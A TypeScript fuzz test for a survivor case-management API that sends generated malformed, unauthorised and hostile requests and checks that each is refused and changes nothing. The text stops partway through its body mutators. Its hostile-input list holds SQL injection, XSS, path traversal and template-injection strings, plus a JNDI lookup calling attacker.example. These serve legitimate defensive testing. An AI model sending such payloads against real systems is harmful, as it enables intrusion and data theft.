/**
 * Hostile input never breaks the API nor changes anything: thousands of malformed, hostile or unauthorised requests,
 * generated deterministically across every route, are each answered with a 4xx (never a 5xx), and afterwards every
 * table and every case workflow's state is as it was. Most run against an app with limits raised so validation is
 * what answers; a share runs against the stack's default-limited app so the limiter's 429 is part of it.
 */
import { createServer, type Server } from 'node:http';
import request from 'supertest';
import type { z } from 'zod';
import { createApp } from '../../api/app';
import { createServices } from '../../app/services';
import { DashboardQuerySchema } from '../../api/routes/dashboard';
import { ComplianceQuerySchema } from '../../api/routes/reports';
import {
  AuditQuerySchema,
  IdentitySchema,
  NewAgencySchema,
  SurvivorCorrectionSchema,
  NotificationListQuerySchema,
  StepCountQuerySchema,
  StepListQuerySchema,
  UserListQuerySchema,
} from '../../api/schemas';
import { workflowIdOf } from '../../workflows/contract';
import { upsertAgencies } from '../../db/agencies';
import { DEMO_AGENCIES } from '../../db/seed';
import { issueToken, revokeToken } from '../../db/tokens';
import { disableUser } from '../../db/users';
import { createTestUser, createWorker, type TestUser } from '../support/auth';
import { startStack, type Stack } from '../support/stack';
import { seededRandom } from '../support/seeded-random';
import { wallClock } from '../../core/clock';

interface Probe {
  family: string;
  target: 'open' | 'limited';
  method: 'get' | 'post' | 'put' | 'patch' | 'delete';
  path: string;
  headers: Record<string, string>;
  /** Raw text sent as is, with `contentType`; absent: no body. */
  body?: string;
  contentType?: string;
  /** When set, the exact statuses this probe must get (e.g. 401 for a bad token, 403 for another agency's case). */
  expect?: number[];
  /** A search's probe: a body its schema takes is answered 200 (finding nothing, changing nothing), else a 4xx. */
  search?: boolean;
}

const HOSTILE = [
  "' OR 1=1 --",
  "'; DROP TABLE cases; --",
  '1; SELECT pg_sleep(10)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'a\u0000b',
  '\u0000',
  '\u202egnp.exe',
  '\ud800',
  'Ｚａｌｇｏ̸̡̛ 👩‍👩‍👧 𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '__proto__',
  '',
  ' ',
  'x'.repeat(5000),
];
/** Well-formed dates PostgreSQL cannot store (year 0) or no case can mean, and years of five digits. */
const ABSURD_DATES = [
  '0000-01-01',
  '0001-01-01',
  '1899-12-31',
  '2200-01-01',
  '9999-12-31',
  '10000-01-01',
  '0000-01-01T00:00:00Z',
  '+010000-01-01T00:00:00Z',
];
const WRONG_TYPES: unknown[] = [null, true, false, 0, -1, 1.5, 1e308, [], [1, 'a'], {}, { $gt: '' }, 'string'];
const EXTRA_KEYS = ['__proto__', 'constructor', 'isAdmin', '$where', 'roles', 'x'.repeat(300)];
const INVALID_JSON = [
  '{',
  '{"a":',
  "{'a':1}",
  '{"a":1,}',
  'NaN',
  'undefined',
  '{"a":1}}',
  '[1,2',
  '{"survivor":}',
  '\u0000',
  '"unterminated',
];
const NON_OBJECT_JSON = ['[]', '[{}]', '"text"', '42', 'null', 'true'];
const WRONG_CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'application/xml',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  'application/octet-stream',
];
const BAD_UUIDS = [
  'not-a-uuid',
  '00000000-0000-0000-0000-00000000000g',
  '00000000-0000-0000-0000-0000000000000',
  '0',
  '-1',
  'null',
  'x'.repeat(300),
  'x'.repeat(5000),
];

/** JSON nested `depth` levels deep (objects and arrays in turn), written as text: too deep for JSON.stringify. */
const nestedJson = (depth: number): string => '{"a":['.repeat(depth / 2) + '"bottom"' + ']}'.repeat(depth / 2);

/** Percent-encodes, and a lone surrogate (which encodeURIComponent refuses) becomes invalid UTF-8 on the wire. */
const encode = (value: string): string => {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80';
  }
};

let stack: Stack;
let open: Server;
let limited: Server;
/** Every table's rows and every case's workflow state, as text, before the probes run. */
let before: Record<string, string[]>;
const cases: Record<'a' | 'b' | 'closed', string> = { a: '', b: '', closed: '' };
const people: Record<string, TestUser> = {};
const badTokens: Record<string, string> = {};

function listen(app: Parameters<typeof createServer>[1]): Promise<Server> {
  const server = createServer(app);
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}
const closeServer = (server: Server | undefined) =>
  new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));

/**
 * What must not change. The audit trail grows by design, and so do the counts of wrong passwords (sign_in_failures)
 * and of requests per rate limit (rate_limit_hits): hostile guesses are what they count. Idempotency keys of refusals
 * are compared apart (below).
 */
async function snapshot(): Promise<Record<string, string[]>> {
  const found: Record<string, string[]> = {};
  const { rows: tables } = await stack.pool.query<{ table_name: string }>(
    `SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE'
       AND table_name NOT IN ('audit_events', 'idempotency_keys', 'sign_in_failures', 'rate_limit_hits')
     ORDER BY table_name`,
  );
  for (const { table_name: table } of tables) {
    // A token's last use is a usage statistic that every authenticated probe may touch, not data.
    const { rows } = await stack.pool.query<{ row: string }>(
      `SELECT (to_jsonb(t) - 'last_used_at')::text AS row FROM "${table}" t ORDER BY 1`,
    );
    found[table] = rows.map((r) => r.row);
  }
  const { rows: answered } = await stack.pool.query<{ row: string }>(
    `SELECT scope || ' ' || key || ' ' || coalesce(status_code::text, 'in progress') AS row FROM idempotency_keys
      WHERE status_code IS NULL OR status_code < 400 ORDER BY 1`,
  );
  found['idempotency_keys (not refused)'] = answered.map((r) => r.row);
  for (const [name, caseId] of Object.entries(cases)) {
    found[`workflow ${name}`] = [
      JSON.stringify(await stack.client.workflow.getHandle(workflowIdOf(caseId)).query('caseState')),
    ];
  }
  return found;
}

beforeAll(async () => {
  stack = await startStack();
  // A second police agency, so an officer can aim at a case of an agency not theirs.
  await upsertAgencies(stack.pool, [
    { id: 'fuzz-police-b', kind: 'law_enforcement', name: 'Fuzz Police B', email: 'b@police.example.org' },
  ]);
  people.officerB = await createWorker(stack.pool, 'fuzz-police-b', 'law_enforcement');
  for (const name of [
    'demo-police-officer',
    'demo-ice-officer',
    'demo-hhs-officer',
    'demo-advocate',
    'demo-coordinator',
    'demo-supervisor',
    'demo-admin',
    'demo-system-admin',
  ]) {
    people[name] = stack.users[name]!;
  }

  const today = new Date(await stack.env.currentTimeMs()).toISOString().slice(0, 10);
  const openCase = async (as: TestUser, agencies: typeof DEMO_AGENCIES, key: string) => {
    const opened = await request(stack.app)
      .post('/api/cases')
      .set(as.headers)
      .set('Idempotency-Key', key)
      .send({
        identifiedOn: today,
        survivor: { name: 'Fuzz Survivor', birthDate: '1990-01-01' },
        agencies,
        // One fictitious survivor opened again on purpose, not a request sent twice (409 possible_duplicate).
        confirmNotDuplicate: true,
      })
      .expect(201);
    return (opened.body as { caseId: string }).caseId;
  };
  cases.a = await openCase(people['demo-police-officer']!, DEMO_AGENCIES, 'fuzz-setup-a');
  cases.b = await openCase(people.officerB, { ...DEMO_AGENCIES, law_enforcement: 'fuzz-police-b' }, 'fuzz-setup-b');
  cases.closed = await openCase(people['demo-police-officer']!, DEMO_AGENCIES, 'fuzz-setup-closed');
  await request(stack.app)
    .post(`/api/cases/${cases.closed}/close`)
    .set(people['demo-coordinator']!.headers)
    .set('Idempotency-Key', 'fuzz-setup-close')
    .send({ status: 'closed', reason: 'relief_obtained' })
    .expect(200);

  // Tokens that must not work: expired, revoked, and a disabled user's.
  const officer = people['demo-police-officer']!.user;
  badTokens.expired = (
    await issueToken(stack.pool, {
      userId: officer.id,
      kind: 'api_key',
      label: 'expired',
      expiresAt: new Date(Date.now() - 60_000),
    })
  ).token;
  const revoked = await issueToken(stack.pool, {
    userId: officer.id,
    kind: 'api_key',
    label: 'revoked',
    expiresAt: new Date(Date.now() + 3600_000),
  });
  await revokeToken(stack.pool, revoked.id, new Date());
  badTokens.revoked = revoked.token;
  const leaver = await createTestUser(stack.pool, {
    username: 'fuzz-leaver',
    agencyId: DEMO_AGENCIES.law_enforcement,
    roles: ['agency_officer'],
  });
  await disableUser(stack.pool, leaver.user.id);
  badTokens.disabled = leaver.token;

  const fuzzApp = createApp({
    logger: stack.logger,
    ...createServices({ now: wallClock, pool: stack.pool, logger: stack.logger }),
    cases: stack.cases,
    mailbox: stack.mail,
    ready: async () => ({ ok: true, checks: {} }),
    rateLimits: { signInPerMinute: 1e6, writesPerMinute: 1e6, auditedReadsPerMinute: 1e6, refusedReadsPerMinute: 1e6 },
  });
  open = await listen(fuzzApp);
  limited = await listen(stack.app);
  before = await snapshot();
});
afterAll(async () => {
  await closeServer(open);
  await closeServer(limited);
  await stack?.stop();
});

/** The requests, all derived from one seed. */
function generateProbes(today: string): Probe[] {
  const random = seededRandom(0x5eed_2026);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const as = (name: string) => people[name]!.headers;
  let keys = 0;
  const idempotencyKey = () => ({ 'Idempotency-Key': `fuzz-probe-${(keys += 1)}` });
  const json = (value: unknown) => ({ body: JSON.stringify(value), contentType: 'application/json' });

  // Every route of the API, with a concrete path (its ids those of case A), and who could call it legitimately.
  const otherTokenId = /^rc_([a-z0-9]{16})_/.exec(people['demo-ice-officer']!.token)![1]!;
  const caseA = `/api/cases/${cases.a}`;
  const routes = [
    { method: 'get', path: '/health', public: true },
    { method: 'get', path: '/ready', public: true },
    { method: 'get', path: '/dev/mail', public: true },
    { method: 'get', path: '/api/openapi.json', public: true },
    { method: 'post', path: '/api/auth/sign-in', public: true },
    { method: 'post', path: '/api/auth/sign-out' },
    { method: 'get', path: '/api/me' },
    { method: 'post', path: '/api/me/password' },
    { method: 'get', path: '/api/tokens' },
    { method: 'post', path: '/api/tokens' },
    { method: 'post', path: `/api/tokens/${otherTokenId}/revoke` },
    { method: 'get', path: '/api/users' },
    { method: 'post', path: '/api/users' },
    { method: 'get', path: `/api/users/${people['demo-police-officer']!.user.id}` },
    { method: 'post', path: `/api/users/${people['demo-police-officer']!.user.id}/disable` },
    { method: 'post', path: `/api/users/${people['demo-police-officer']!.user.id}/password-reset` },
    { method: 'post', path: `/api/users/${people['demo-police-officer']!.user.id}/enable` },
    { method: 'post', path: `/api/users/${people['demo-police-officer']!.user.id}/roles` },
    { method: 'get', path: `/api/users/${people['demo-police-officer']!.user.id}/identities` },
    { method: 'post', path: `/api/users/${people['demo-police-officer']!.user.id}/identities` },
    { method: 'post', path: `/api/users/${people['demo-police-officer']!.user.id}/identities/unlink` },
    { method: 'post', path: '/api/auth/oidc/nonce', public: true },
    { method: 'post', path: '/api/auth/oidc/session', public: true },
    { method: 'get', path: '/api/agencies' },
    { method: 'post', path: '/api/agencies' },
    { method: 'post', path: '/api/cases' },
    { method: 'get', path: caseA },
    { method: 'get', path: `${caseA}/survivor` },
    { method: 'post', path: `${caseA}/survivor` },
    { method: 'put', path: `${caseA}/survivor` },
    { method: 'get', path: `${caseA}/survivor/revisions` },
    { method: 'get', path: '/api/cases' },
    { method: 'post', path: '/api/cases/search' },
    { method: 'get', path: `${caseA}/reminders` },
    { method: 'post', path: `${caseA}/steps/cp_request-1/sign-off` },
    { method: 'post', path: `${caseA}/steps/cp_request-1/sign-off/preview` },
    { method: 'post', path: `${caseA}/steps/cp_request-1/corrections` },
    { method: 'post', path: `${caseA}/steps/cp_request-1/corrections/preview` },
    { method: 'post', path: `${caseA}/close` },
    { method: 'post', path: `${caseA}/transfers` },
    { method: 'post', path: `${caseA}/ask-again` },
    { method: 'post', path: `${caseA}/steps/cp_request-1/documents` },
    { method: 'get', path: `${caseA}/steps/cp_request-1/documents` },
    { method: 'get', path: `${caseA}/documents` },
    { method: 'get', path: `${caseA}/documents/${'0'.repeat(8)}-0000-4000-8000-${'0'.repeat(12)}` },
    { method: 'post', path: `${caseA}/documents/${'0'.repeat(8)}-0000-4000-8000-${'0'.repeat(12)}/remove` },
    { method: 'get', path: '/api/steps' },
    { method: 'get', path: '/api/steps/count' },
    { method: 'get', path: '/api/notifications' },
    { method: 'get', path: '/api/dashboard' },
    { method: 'get', path: '/api/audit' },
    { method: 'get', path: '/api/me/calendar-feeds' },
    { method: 'post', path: '/api/me/calendar-feeds' },
    { method: 'delete', path: `/api/me/calendar-feeds/${'a'.repeat(16)}` },
    { method: 'get', path: `/calendar/rc_${'a'.repeat(16)}_${'b'.repeat(43)}.ics`, public: true },
    { method: 'post', path: `/api/agencies/${DEMO_AGENCIES.law_enforcement}/daily-digest` },
    { method: 'get', path: '/api/reports/compliance' },
  ] as const;

  /**
   * Routes with a body: a caller who passes the permission check, a body the route would take (but that changes
   * nothing: wrong password, unknown agency, a step already signed, a case already closed), its required fields,
   * and, where a valid body WOULD change data, the schema any mutant must fail.
   */
  const bodyRoutes: {
    path: string;
    as?: string;
    base: Record<string, unknown>;
    required: string[];
    idempotent?: boolean;
    mustFail?: z.ZodType;
    /** A search: any body it takes is answered 200 and changes nothing, so hostile values are sent whatever they are. */
    search?: boolean;
  }[] = [
    {
      path: '/api/auth/sign-in',
      base: { username: 'demo-police-officer', password: 'not the password at all' },
      required: ['username', 'password'],
    },
    {
      path: '/api/me/password',
      as: 'demo-police-officer',
      base: { currentPassword: 'not the password at all', newPassword: 'a long enough new password' },
      required: ['currentPassword', 'newPassword'],
    },
    {
      path: '/api/tokens',
      as: 'demo-police-officer',
      base: { currentPassword: 'not the password at all', label: 'fuzz', expiresInDays: 30 },
      required: ['currentPassword', 'label'],
    },
    {
      path: '/api/me/calendar-feeds',
      as: 'demo-police-officer',
      base: { currentPassword: 'not the password at all', label: 'fuzz' },
      required: ['currentPassword', 'label'],
    },
    {
      path: '/api/users',
      as: 'demo-system-admin',
      base: { username: 'fuzz-new', displayName: 'Fuzz New', agencyId: 'no-such-agency', roles: ['agency_officer'] },
      required: ['username', 'displayName', 'agencyId', 'roles'],
    },
    {
      path: '/api/agencies',
      as: 'demo-system-admin',
      base: { id: 'demo-police', kind: 'ice', name: 'Renamed', email: null },
      required: ['id', 'kind', 'name'],
      mustFail: NewAgencySchema,
    },
    // This stack has no identity provider configured: the route answers 404 whatever the body.
    { path: '/api/auth/oidc/session', base: { idToken: 'a.b.c' }, required: ['idToken'] },
    {
      path: `/api/users/${people['demo-police-officer']!.user.id}/identities`,
      as: 'demo-system-admin',
      base: { issuer: 'https://idp.example.org', subject: 'fuzz-subject' },
      required: ['issuer', 'subject'],
      mustFail: IdentitySchema,
    },
    {
      path: `/api/users/${people['demo-police-officer']!.user.id}/identities/unlink`,
      as: 'demo-system-admin',
      base: { issuer: 'https://idp.example.org', subject: 'fuzz-subject' },
      required: ['issuer', 'subject'],
      mustFail: IdentitySchema,
    },
    {
      path: '/api/cases',
      as: 'demo-police-officer',
      base: {
        identifiedOn: today,
        survivor: { name: 'Fuzz Person', birthDate: '1990-01-01' },
        agencies: { ...DEMO_AGENCIES, ice: 'no-such-agency' },
      },
      required: ['identifiedOn', 'survivor', 'agencies'],
      idempotent: true,
    },
    {
      path: `${caseA}/steps/identification-1/sign-off`,
      as: 'demo-police-officer',
      base: { outcome: 'identified', details: { identifiedOn: today, path: 'adult' } },
      required: ['outcome'],
      idempotent: true,
    },
    {
      // The identification is never corrected (it is recorded when the case opens): a correction that changes nothing.
      path: `${caseA}/steps/identification-1/corrections`,
      as: 'demo-police-officer',
      base: { outcome: 'identified', details: { identifiedOn: today, path: 'adult' }, reason: 'fuzz' },
      required: ['outcome', 'reason'],
      idempotent: true,
    },
    {
      path: `${caseA}/survivor`,
      as: 'demo-police-officer',
      // The name it already has: a correction that changes nothing.
      base: { name: 'Fuzz Survivor' },
      required: [],
      idempotent: true,
      mustFail: SurvivorCorrectionSchema,
    },
    // A search changes nothing, whatever it finds.
    {
      path: '/api/cases/search',
      as: 'demo-police-officer',
      base: { name: 'Fuzz Nobody' },
      required: ['name'],
      search: true,
    },
    {
      path: `/api/cases/${cases.closed}/close`,
      as: 'demo-coordinator',
      base: { status: 'closed', reason: 'relief_obtained' },
      required: ['status', 'reason'],
      idempotent: true,
    },
    // A document that does not exist: a valid reason answers 404 and removes nothing.
    {
      path: `${caseA}/documents/${'0'.repeat(8)}-0000-4000-8000-${'0'.repeat(12)}/remove`,
      as: 'demo-police-officer',
      base: { reason: 'wrong_file' },
      required: ['reason'],
    },
    {
      path: `/api/cases/${cases.closed}/transfers`,
      as: 'demo-coordinator',
      base: { agencyKind: 'law_enforcement', toAgencyId: DEMO_AGENCIES.law_enforcement },
      required: ['agencyKind', 'toAgencyId'],
      idempotent: true,
    },
  ];

  const probes: Probe[] = [];
  const add = (probe: Omit<Probe, 'target'> & { target?: Probe['target'] }) =>
    probes.push({ target: 'open', ...probe });

  // 1. Every protected route with every kind of bad credential: 401.
  const BAD_AUTH = [
    'Bearer',
    'Bearer ',
    'Basic ZGVtbzpkZW1v',
    'bearer rc_short_token',
    `Bearer rc_${'a'.repeat(16)}_${'b'.repeat(43)}`,
    `Bearer ${people['demo-police-officer']!.token.slice(0, -1)}x`,
    `Bearer ${people['demo-police-officer']!.token}x`,
    `Bearer ${badTokens.expired}`,
    `Bearer ${badTokens.revoked}`,
    `Bearer ${badTokens.disabled}`,
    "Bearer ' OR 1=1 --",
    'Bearer <script>alert(1)</script>',
    `Bearer ${'x'.repeat(4000)}`,
    'Bearer rc_ÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿÿ_ÿÿÿÿ',
  ];
  for (const route of routes.filter((r) => !('public' in r))) {
    add({ family: 'no token', method: route.method, path: route.path, headers: {}, expect: [401] });
    for (const auth of BAD_AUTH)
      add({
        family: 'bad token',
        method: route.method,
        path: route.path,
        headers: { Authorization: auth, ...idempotencyKey() },
        expect: [401],
      });
  }

  // 2. Methods a path does not take: 405 (with Allow); paths that do not exist: 404.
  const exists = (method: string, path: string) =>
    routes.some((route) => route.method === method && route.path === path);
  for (const route of routes) {
    for (const method of ['put', 'patch', 'delete'] as const)
      if (!exists(method, route.path))
        add({ family: 'no such method', method, path: route.path, headers: as('demo-coordinator'), expect: [405] });
  }
  for (const path of [
    '/api/../../etc/passwd',
    '/api/%2e%2e/%2e%2e/etc/passwd',
    '/api/cases/%00',
    `/api/${'a'.repeat(5000)}`,
    '/api/cases/..%2F..%2Fusers',
    '/.env',
    '/api/cases;DROP%20TABLE%20cases',
  ]) {
    add({
      family: 'no such path',
      method: pick(['get', 'post'] as const),
      path,
      headers: as('demo-coordinator'),
      // 405 where a route's pattern takes the path (`/api/cases/<anything>` is a case's) but not the method.
      expect: [404, 400, 405],
    });
  }

  // 3. Other agencies' cases, steps not one's own, roles that may not: 403 (or 404 for what does not exist).
  const caseB = `/api/cases/${cases.b}`;
  const signCp = { outcome: 'requested', details: { requestedOn: today } };
  const forbidden: [string, 'get' | 'post', string, unknown][] = [
    ['demo-police-officer', 'get', caseB, undefined],
    ['demo-police-officer', 'get', `${caseB}/survivor`, undefined],
    ['demo-police-officer', 'post', `${caseB}/steps/cp_request-1/sign-off`, signCp],
    ['demo-police-officer', 'post', `${caseB}/close`, { status: 'closed', reason: 'relief_obtained' }],
    ['officerB', 'get', caseA, undefined],
    ['officerB', 'get', `${caseA}/survivor`, undefined],
    ['officerB', 'get', `${caseA}/reminders`, undefined],
    ['officerB', 'post', `${caseA}/steps/cp_request-1/sign-off`, signCp],
    ['demo-ice-officer', 'post', `${caseA}/steps/cp_request-1/sign-off`, signCp],
    ['demo-hhs-officer', 'post', `${caseA}/steps/cp_request-1/sign-off`, signCp],
    ['demo-advocate', 'post', `${caseA}/steps/cp_request-1/sign-off`, signCp],
    ['demo-coordinator', 'post', `${caseA}/steps/cp_request-1/sign-off`, signCp],
    ['demo-supervisor', 'post', `${caseA}/steps/cp_request-1/sign-off`, signCp],
    ['demo-supervisor', 'get', `${caseA}/survivor`, undefined],
    ['demo-supervisor', 'post', `${caseA}/close`, { status: 'closed', reason: 'relief_obtained' }],
    ['demo-police-officer', 'post', `${caseA}/close`, { status: 'closed', reason: 'relief_obtained' }],
    ['demo-admin', 'get', caseA, undefined],
    ['demo-admin', 'get', `${caseA}/survivor`, undefined],
    [
      'demo-admin',
      'post',
      '/api/cases',
      { identifiedOn: today, survivor: { name: 'Admin Made', birthDate: '1990-01-01' }, agencies: DEMO_AGENCIES },
    ],
    [
      'demo-ice-officer',
      'post',
      '/api/cases',
      { identifiedOn: today, survivor: { name: 'Ice Made', birthDate: '1990-01-01' }, agencies: DEMO_AGENCIES },
    ],
    [
      'demo-supervisor',
      'post',
      '/api/cases',
      { identifiedOn: today, survivor: { name: 'Sup Made', birthDate: '1990-01-01' }, agencies: DEMO_AGENCIES },
    ],
    ['demo-police-officer', 'get', '/api/users', undefined],
    ['demo-police-officer', 'get', `/api/users/${people['demo-police-officer']!.user.id}`, undefined],
    ['demo-admin', 'get', `/api/users/${people['demo-police-officer']!.user.id}`, undefined],
    [
      'demo-police-officer',
      'post',
      '/api/users',
      { username: 'fuzz-made', displayName: 'Made', agencyId: DEMO_AGENCIES.law_enforcement, roles: ['admin'] },
    ],
    ['demo-coordinator', 'post', `/api/users/${people['demo-admin']!.user.id}/disable`, undefined],
    ['demo-coordinator', 'post', `/api/users/${people['demo-police-officer']!.user.id}/password-reset`, undefined],
    ['demo-admin', 'post', `/api/users/${people['demo-police-officer']!.user.id}/password-reset`, undefined],
    ['demo-admin', 'post', `/api/users/${people['demo-system-admin']!.user.id}/password-reset`, undefined],
    ['demo-admin', 'post', `/api/users/${people['demo-police-officer']!.user.id}/enable`, undefined],
    ['demo-police-officer', 'post', '/api/agencies', { id: 'fuzz-made', kind: 'ice', name: 'Made', email: null }],
    ['demo-police-officer', 'get', '/api/audit', undefined],
    ['demo-advocate', 'get', '/api/audit', undefined],
    ['demo-admin', 'get', '/api/steps', undefined],
    ['demo-admin', 'get', '/api/dashboard', undefined],
    ['demo-admin', 'get', '/api/steps/count', undefined],
    ['demo-police-officer', 'get', '/api/steps?agencyId=demo-ice-ccht', undefined],
    ['demo-police-officer', 'get', '/api/dashboard?agencyId=demo-ice-ccht', undefined],
    ['demo-police-officer', 'get', '/api/steps/count?agencyId=demo-ice-ccht', undefined],
    ['demo-police-officer', 'post', `/api/tokens/${otherTokenId}/revoke`, undefined],
    ['demo-police-officer', 'get', `/api/cases/${'0'.repeat(8)}-0000-4000-8000-${'0'.repeat(12)}`, undefined],
    [
      'demo-police-officer',
      'post',
      `/api/cases/${'0'.repeat(8)}-0000-4000-8000-${'0'.repeat(12)}/close`,
      { status: 'closed', reason: 'relief_obtained' },
    ],
    ['demo-admin', 'post', `/api/users/${'0'.repeat(8)}-0000-4000-8000-${'0'.repeat(12)}/disable`, undefined],
    ['demo-admin', 'post', `/api/users/${people['demo-admin']!.user.id}/disable`, undefined],
    ['demo-admin', 'post', `/api/users/${people['demo-admin']!.user.id}/password-reset`, undefined],
    ['demo-system-admin', 'post', `/api/users/${people['demo-coordinator']!.user.id}/enable`, undefined],
    ['demo-admin', 'post', `/api/tokens/${'z'.repeat(16)}/revoke`, undefined],
    ['demo-police-officer', 'post', `/api/agencies/${DEMO_AGENCIES.ice}/daily-digest`, { enabled: true }],
    ['demo-admin', 'post', `/api/agencies/${DEMO_AGENCIES.ice}/daily-digest`, { enabled: true }],
  ];
  for (let round = 0; round < 12; round += 1) {
    for (const [who, method, path, body] of forbidden) {
      add({
        family: 'not theirs',
        method,
        path,
        headers: { ...as(who), ...idempotencyKey() },
        ...(body === undefined ? {} : json(body)),
        expect: [403, 404, 409],
      });
    }
  }

  // 4. Malformed path parameters, as a caller who would otherwise be allowed: 400 or 404.
  const paramPaths = [
    (id: string) => ({ as: 'demo-coordinator', method: 'get' as const, path: `/api/cases/${id}` }),
    (id: string) => ({ as: 'demo-advocate', method: 'get' as const, path: `/api/cases/${id}/survivor` }),
    (id: string) => ({ as: 'demo-coordinator', method: 'get' as const, path: `/api/cases/${id}/reminders` }),
    (id: string) => ({
      as: 'demo-police-officer',
      method: 'post' as const,
      path: `/api/cases/${id}/steps/cp_request-1/sign-off`,
      body: signCp,
    }),
    (id: string) => ({
      as: 'demo-police-officer',
      method: 'post' as const,
      path: `${caseA}/steps/${id}/sign-off`,
      body: signCp,
    }),
    (id: string) => ({
      as: 'demo-coordinator',
      method: 'post' as const,
      path: `/api/cases/${id}/close`,
      body: { status: 'closed', reason: 'relief_obtained' },
    }),
    (id: string) => ({ as: 'demo-coordinator', method: 'get' as const, path: `/api/cases/${id}/documents` }),
    (id: string) => ({ as: 'demo-coordinator', method: 'get' as const, path: `${caseA}/documents/${id}` }),
    (id: string) => ({
      as: 'demo-coordinator',
      method: 'post' as const,
      path: `${caseA}/documents/${id}/remove`,
      body: { reason: 'wrong_file' },
    }),
    (id: string) => ({ as: 'demo-police-officer', method: 'post' as const, path: `${caseA}/steps/${id}/documents` }),
    (id: string) => ({ as: 'demo-police-officer', method: 'post' as const, path: `/api/tokens/${id}/revoke` }),
    (id: string) => ({ as: 'demo-admin', method: 'post' as const, path: `/api/users/${id}/disable` }),
    (id: string) => ({ as: 'demo-admin', method: 'post' as const, path: `/api/users/${id}/password-reset` }),
    (id: string) => ({ as: 'demo-admin', method: 'post' as const, path: `/api/users/${id}/enable` }),
  ];
  for (const make of paramPaths) {
    for (const id of [...BAD_UUIDS, ...HOSTILE.filter((h) => h.length > 0)]) {
      const target = make(encode(id));
      add({
        family: 'bad path parameter',
        method: target.method,
        path: target.path,
        headers: { ...as(target.as), ...idempotencyKey() },
        ...('body' in target ? json(target.body) : {}),
      });
    }
  }

  // 5. Malformed query strings on the lists, as a caller who may list: 400 (403 for another agency). A value the
  // route's schema accepts is a legitimate filter (an audit action may contain "/" and "."), so only those it
  // refuses are sent, except where the handler is the check (a steps cursor is opaque to the schema).
  const queries: {
    path: string;
    as: string;
    schema: z.ZodType;
    handlerChecks?: string;
    params: Record<string, readonly string[]>;
  }[] = [
    {
      path: '/api/steps',
      as: 'demo-coordinator',
      schema: StepListQuerySchema,
      handlerChecks: 'cursor',
      params: {
        status: HOSTILE,
        kind: HOSTILE,
        dueBefore: [...HOSTILE, ...ABSURD_DATES, '2026-13-45', '2026-02-30'],
        dueAfter: [...HOSTILE, ...ABSURD_DATES],
        sort: HOSTILE,
        limit: ['0', '-1', 'abc', '201', '1.5', '1e3', 'Infinity'],
        cursor: HOSTILE,
        agencyId: HOSTILE.filter((h) => h !== '__proto__'),
      },
    },
    {
      path: '/api/notifications',
      as: 'demo-coordinator',
      schema: NotificationListQuerySchema,
      handlerChecks: 'cursor',
      params: {
        caseId: [...BAD_UUIDS, ...HOSTILE],
        agencyId: HOSTILE.filter((h) => h !== '__proto__'),
        limit: ['0', '-5', 'ten', '9999'],
        cursor: ['', 'x'.repeat(501), 'a\u0000b'],
      },
    },
    {
      path: '/api/steps/count',
      as: 'demo-coordinator',
      schema: StepCountQuerySchema,
      params: { status: HOSTILE, kind: HOSTILE, agencyId: HOSTILE.filter((h) => h !== '__proto__') },
    },
    {
      path: '/api/dashboard',
      as: 'demo-coordinator',
      schema: DashboardQuerySchema,
      params: { agencyId: HOSTILE.filter((h) => h !== '__proto__') },
    },
    {
      path: '/api/reports/compliance',
      as: 'demo-coordinator',
      schema: ComplianceQuerySchema,
      params: { from: HOSTILE, to: HOSTILE, format: HOSTILE },
    },
    {
      path: '/api/users',
      as: 'demo-system-admin',
      schema: UserListQuerySchema,
      params: { agencyId: HOSTILE.filter((h) => h !== '__proto__') },
    },
    {
      path: '/api/audit',
      as: 'demo-supervisor',
      schema: AuditQuerySchema,
      handlerChecks: 'cursor',
      params: {
        caseId: BAD_UUIDS,
        userId: BAD_UUIDS,
        agencyId: HOSTILE.filter((h) => h !== '__proto__'),
        action: HOSTILE,
        outcome: HOSTILE,
        from: [...HOSTILE, ...ABSURD_DATES],
        to: [...HOSTILE, ...ABSURD_DATES],
        limit: ['0', '201', 'x'],
        cursor: HOSTILE,
      },
    },
  ];
  for (const { path, as: who, schema, handlerChecks, params } of queries) {
    for (const [name, values] of Object.entries(params)) {
      for (const value of values.filter((v) => name === handlerChecks || !schema.safeParse({ [name]: v }).success))
        add({ family: 'bad query', method: 'get', path: `${path}?${name}=${encode(value)}`, headers: as(who) });
    }
    add({ family: 'bad query', method: 'get', path: `${path}?unexpected=1`, headers: as(who) });
    add({ family: 'bad query', method: 'get', path: `${path}?limit=1&limit=2`, headers: as(who) });
    add({ family: 'bad query', method: 'get', path: `${path}?agencyId[$ne]=x`, headers: as(who) });
  }

  // 6. Mutated bodies, as a caller the route lets through to validation: 400, 413, 415 or 422.
  const mutants: ((
    base: Record<string, unknown>,
    required: string[],
  ) => { family: string; body: string; contentType: string })[] = [
    (base) => {
      const field = pick(Object.keys(base));
      return { family: 'wrong type', ...json({ ...base, [field]: pick(WRONG_TYPES) }) };
    },
    (base) => {
      const strings = Object.keys(base).filter((k) => typeof base[k] === 'string');
      const field = strings.length > 0 ? pick(strings) : pick(Object.keys(base));
      return { family: 'hostile string', ...json({ ...base, [field]: pick(HOSTILE) }) };
    },
    (base) => {
      const objects = Object.keys(base).filter(
        (k) => base[k] !== null && typeof base[k] === 'object' && !Array.isArray(base[k]),
      );
      if (objects.length === 0)
        return {
          family: 'wrong nested type',
          ...json({ ...base, [pick(Object.keys(base))]: { nested: pick(HOSTILE) } }),
        };
      const field = pick(objects);
      const inner = base[field] as Record<string, unknown>;
      const innerKey = Object.keys(inner).length > 0 ? pick(Object.keys(inner)) : 'x';
      return {
        family: 'wrong nested type',
        ...json({ ...base, [field]: { ...inner, [innerKey]: pick([...WRONG_TYPES, ...HOSTILE]) } }),
      };
    },
    (base, required) => {
      const copy = { ...base };
      delete copy[pick(required)];
      return { family: 'missing field', ...json(copy) };
    },
